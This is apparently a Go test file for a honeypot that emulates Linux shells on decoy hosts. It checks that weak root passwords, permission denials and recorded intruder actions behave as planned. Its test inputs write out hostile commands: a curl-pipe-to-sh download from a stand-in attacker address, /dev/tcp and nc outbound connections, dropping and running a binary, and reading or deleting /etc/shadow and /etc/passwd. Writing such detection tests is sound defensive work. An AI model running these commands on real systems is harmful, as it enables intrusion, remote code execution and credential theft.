package shell

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"decnet/decoy"
	"decnet/decoy/control"
	"decnet/decoy/event"
)

// fleet makes the systems of n deckies of one kind.
func fleet(t *testing.T, n int, os, distro string) []*System {
	t.Helper()
	var all []*System
	for i := range n {
		h, err := decoy.NewHost(control.Identity{
			ID: "d", Name: fmt.Sprint("d", i), Hostname: fmt.Sprint("h", i), IP: "10.0.0.7", OS: os, Distro: distro, Seed: bytes.Repeat([]byte{byte(i)}, 32),
		}, nil)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, SystemOf(h))
	}
	return all
}

func TestEachDeckyHasAFewWeakPasswordsOfItsOwn(t *testing.T) {
	sets := map[string]bool{}
	for _, sys := range fleet(t, 20, "linux", "ubuntu22") {
		var own []string
		for _, p := range weakPasswords {
			if sys.Admits("root", p) {
				own = append(own, p)
			}
		}
		if len(own) < 3 || len(own) > 5 {
			t.Errorf("root is let in with %v", own)
		}
		if sys.Admits("root", "") || sys.Admits("nobody", own[0]) || sys.Admits("root", strings.Join(own, "")) {
			t.Error("what is not weak lets in")
		}
		sets[strings.Join(own, " ")] = true
	}
	if len(sets) < 15 {
		t.Errorf("20 deckies have only %d sets of passwords", len(sets))
	}
}

func TestSystemsWithNoInsideLetNobodyIn(t *testing.T) {
	for _, os := range []string{"windows", "windows_server", "bsd", "cisco"} {
		for _, sys := range fleet(t, 3, os, "debian") {
			for _, p := range weakPasswords {
				if sys.Admits("root", p) || sys.Admits(sys.User, p) || sys.Admits("Administrator", p) {
					t.Errorf("%s lets in with %s", os, p)
				}
			}
		}
	}
}

func TestEveryDistributionIsConsistent(t *testing.T) {
	for distro := range distributions {
		t.Run(distro, func(t *testing.T) {
			s := newSessionOn(fleet(t, 1, "linux", distro)[0], Options{User: "root", Interactive: true})
			release := s.do("cat /etc/os-release")
			if !strings.Contains(release, `PRETTY_NAME="`+s.sys.Pretty+`"`) || !strings.Contains(release, "\nID="+s.sys.ID+"\n") {
				t.Errorf("os-release is %q", release)
			}
			for line, want := range map[string]string{
				"uname -r": s.sys.Kernel, "cat /proc/version": s.sys.Build, "hostname": s.sys.Hostname, "cat /etc/hostname": s.sys.Hostname, "id -un": "root",
				"grep ^" + s.sys.User + ": /etc/passwd": "/home/" + s.sys.User, "ls -d /home/" + s.sys.User: "/home/" + s.sys.User, "nproc": fmt.Sprint(s.sys.CPUs),
				"grep -c ^processor /proc/cpuinfo": fmt.Sprint(s.sys.CPUs), "ip addr": s.sys.IP, "ls -la ~": "..", "which " + s.sys.Packages: "bin/" + s.sys.Packages,
			} {
				if got := s.do(line); !strings.Contains(got, want) {
					t.Errorf("%s prints %q, which lacks %q", line, got, want)
				}
			}
		})
	}
}

func TestWhatAnIntruderTriesIsRecorded(t *testing.T) {
	s := newSession(t, Options{User: "root", Interactive: true, Ask: func(string) (string, error) { return "n3w-secret", nil }})
	s.background = true // waits for nobody
	s.do("curl -s http://203.0.113.9:8080/x | sh", "cat < /dev/tcp/203.0.113.9/4444", "echo evil > /tmp/x", "printf '\\x7fELF' > /tmp/e; chmod +x /tmp/e; /tmp/e", "passwd", "nc 203.0.113.9 99", "apt install nmap")
	for _, want := range []struct{ typ, field, value string }{
		{event.CommandRun, event.Command, "curl -s http://203.0.113.9:8080/x | sh"}, {event.Download, "url", "http://203.0.113.9:8080/x"},
		{"outbound", "target", "tcp/203.0.113.9/4444"}, {"file_written", "path", "/tmp/x"}, {"file_written", "content", "evil\n"}, {"execute", "path", "/tmp/e"},
		{"password_change", event.Secret, "n3w-secret"}, {"outbound", "target", "203.0.113.9:99"}, {"package_install", "packages", "nmap"},
	} {
		found := false
		for _, e := range s.events {
			if value, _ := e.Get(want.field); e.Type == want.typ && value == want.value {
				found = true
			}
		}
		if !found {
			t.Errorf("no %s with %s %q among %+v", want.typ, want.field, want.value, s.events)
		}
	}
}

func TestUsersAreHeldToTheirRights(t *testing.T) {
	sys := SystemOf(host(t, "linux", "debian"))
	own := weakFor(t, sys, sys.User)
	s := newSessionOn(sys, Options{User: sys.User, Interactive: true, Ask: func(string) (string, error) { return own[0], nil }})
	for line, want := range map[string]string{
		"cat /etc/shadow":                  "cat: /etc/shadow: Permission denied\n",
		"cat /root/.bashrc":                "cat: /root/.bashrc: Permission denied\n",
		"echo x > /etc/x":                  "-bash: /etc/x: Permission denied\n",
		"echo x > /root/x":                 "-bash: /root/x: Permission denied\n",
		"cd /root":                         "-bash: cd: /root: Permission denied\n",
		"rm /etc/passwd":                   "rm: cannot remove '/etc/passwd': Permission denied\n",
		"mkdir /opt/x":                     "mkdir: cannot create directory ‘/opt/x’: Permission denied\n",
		"touch ~/x && ls ~/x":              "/home/" + sys.User + "/x\n",
		"sudo cat /etc/shadow | head -c 5": "root:",
		"chmod 777 /etc/passwd":            "chmod: cannot access '/etc/passwd': Operation not permitted\n",
	} {
		if got := s.do(line); got != want {
			t.Errorf("%s\n got %q\nwant %q", line, got, want)
		}
	}
}

// What is fetched is what is recorded, whichever options stand before it, and a value of theirs is none of it.
func TestOptionsOfWhatFetchesAreNoAddresses(t *testing.T) {
	for line, printed := range map[string]string{
		"curl -O http://203.0.113.9/x":                                  "curl: (7) Failed to connect to 203.0.113.9 port 80",
		`curl -s -o /dev/null -w '%{http_code}\n' http://203.0.113.9/x`: "000\n",
		"curl -sSL -A Mozilla -m 5 -H 'X: y' http://203.0.113.9/x":      "curl: (7)",
		"wget -x -d -q -O /tmp/x http://203.0.113.9/x":                  "",
	} {
		s := newSession(t, Options{User: "root"})
		if got := s.do(line); !strings.Contains(got, printed) {
			t.Errorf("%s prints %q, which lacks %q", line, got, printed)
		}
		var fetched []string
		for _, e := range s.events {
			if e.Type == event.Download {
				address, _ := e.Get("url")
				fetched = append(fetched, address)
			}
		}
		if !slices.Equal(fetched, []string{"http://203.0.113.9/x"}) {
			t.Errorf("%s fetches %q", line, fetched)
		}
	}
}
